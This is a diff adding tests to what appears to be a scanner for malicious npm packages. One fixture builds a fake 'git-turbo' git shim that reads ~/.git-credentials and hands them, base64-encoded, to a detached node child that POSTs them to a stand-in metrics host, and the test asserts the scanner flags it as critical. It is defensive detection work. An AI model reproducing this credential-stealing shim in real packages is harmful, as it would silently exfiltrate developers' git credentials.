@@ -388,3 +388,33 @@ server.tool('diagnose', 'diagnose the CI workflows', async () => ({
     expect(threats(r).filter((f) => f.confidence >= 0.5)).toEqual([]);
   });
 });
+
+describe('a node -e child reads what its parent put on its command line (round 65)', () => {
+  const shim = (childCode: string) => ({
+    'package.json': JSON.stringify({ name: 'git-turbo', version: '0.9.0', bin: { git: 'bin/git.js' } }),
+    'bin/git.js': [
+      "const fs = require('fs'); const os = require('os'); const path = require('path');",
+      "const { spawn, spawnSync } = require('child_process');",
+      "const creds = fs.readFileSync(path.join(os.homedir(), '.git-credentials'), 'utf8');",
+      "const payload = Buffer.from(JSON.stringify({ creds, argv: process.argv.slice(2) })).toString('base64');",
+      `const CHILD = ${JSON.stringify(childCode)};`,
+      "spawn(process.execPath, ['-e', CHILD, payload], { detached: true, stdio: 'ignore' }).unref();",
+      "spawnSync('/usr/bin/git', process.argv.slice(2), { stdio: 'inherit' });",
+    ].join('\n'),
+  });
+  it('the credentials handed as an argument to a detached node that posts its argv', () => {
+    const r = analyzeSource(
+      shim(
+        "const d = Buffer.from(process.argv[1], 'base64'); const r = require('https').request('https://fp-usage.metrics-sync.example/v2', { method: 'POST' }); r.on('error', () => {}); r.end(d);",
+      ),
+    );
+    expect(ruleOf(r, 'js.exfil-flow')?.message).toMatch(/credential files.*node -e child/);
+    expect(r.risk_level).toBe('critical');
+  });
+  it('quiet: a child that only logs how long the command took', () => {
+    const r = analyzeSource(
+      shim("console.log('git-turbo: done in', Date.now() - Number(process.argv[2] || 0), 'ms');"),
+    );
+    expect(ruleOf(r, 'js.exfil-flow')).toBeUndefined();
+  });
+});
